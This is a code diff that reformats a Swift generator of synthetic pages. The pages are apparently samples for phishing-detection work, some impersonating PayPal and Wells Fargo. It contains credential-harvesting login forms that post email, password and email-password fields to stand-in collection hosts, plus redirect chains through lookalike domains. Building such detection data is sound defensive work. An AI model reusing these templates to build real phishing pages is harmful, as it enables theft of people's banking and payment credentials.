@@ -9,7 +9,8 @@ enum AccountReview {
     ) { facts in
         let name = facts.show(.claimedIdentity, "PayPal", otherwise: "Garden Club")
         let frame = PageFrame(
-            build: .portal, language: "en", title: facts.show(.promise, "\(name): Confirm your identity", otherwise: "\(name): Members"),
+            build: .portal, language: "en",
+            title: facts.show(.promise, "\(name): Confirm your identity", otherwise: "\(name): Members"),
             description: "\(name) members' area", siteName: name, prefix: "pp", color: "#003087",
             nav: "Personal=# | Business=# | Help=#", footer: ["© 1999-2026 \(name), Inc.", "Contact Us  Privacy  Legal"])
         return SampleScene(
@@ -25,13 +26,16 @@ enum AccountReview {
                 facts.show(
                     .credentialForm,
                     FormMarkup(
-                        action: facts.show(.foreignTarget, "https://collect-eu4.example/gate.php", otherwise: "/signin"), prefix: "pp-login",
-                        button: "Log In", fields: ["Email or mobile number|login_email|email|", "Password|login_password|password|"]
+                        action: facts.show(.foreignTarget, "https://collect-eu4.example/gate.php", otherwise: "/signin"),
+                        prefix: "pp-login",
+                        button: "Log In",
+                        fields: ["Email or mobile number|login_email|email|", "Password|login_password|password|"]
                     ).html),
                 "<p class=\"pp-small\"><a href=\"#\">Having trouble?</a></p>",
             ]),
             hops: [
-                (302, .init(host: "goto-7a.example", path: "/r/aW5ib3g")), (301, .init(host: "safe-link-check.example", path: "/verify")),
+                (302, .init(host: "goto-7a.example", path: "/r/aW5ib3g")),
+                (301, .init(host: "safe-link-check.example", path: "/verify")),
                 (302, .init(host: "paypal-account-review.example", path: "/webapps/signin/home")),
             ])
     }
@@ -43,7 +47,8 @@ enum AccountReview {
     ) { facts in
         let name = facts.show(.claimedIdentity, "Wells Fargo", otherwise: "Lakeside Chess")
         let frame = PageFrame(
-            build: .table, language: "en-US", title: facts.show(.promise, "\(name) Online - Account suspended", otherwise: "\(name) - pairings"),
+            build: .table, language: "en-US",
+            title: facts.show(.promise, "\(name) Online - Account suspended", otherwise: "\(name) - pairings"),
             description: "\(name) sign on", siteName: name, prefix: "wf", color: "#d71e28", nav: "ATMs=# | Español=# | Search=#",
             footer: ["\(name) N.A. Member FDIC", "Equal Housing Lender"])
         return SampleScene(
@@ -59,8 +64,10 @@ enum AccountReview {
                 facts.show(
                     .credentialForm,
                     FormMarkup(
-                        action: facts.show(.foreignTarget, "http://form-drop2.example/wf/next.php", otherwise: "signon.php"), prefix: "wf-so",
-                        button: "Sign On", fields: ["Username|j_username|text|", "Password|j_password|password|", "Email password|epass|password|"]
+                        action: facts.show(.foreignTarget, "http://form-drop2.example/wf/next.php", otherwise: "signon.php"),
+                        prefix: "wf-so",
+                        button: "Sign On",
+                        fields: ["Username|j_username|text|", "Password|j_password|password|", "Email password|epass|password|"]
                     ).html),
                 "<font size=\"2\"><a href=\"#\">Enroll</a> | <a href=\"#\">Security Questions</a></font>",
             ]),
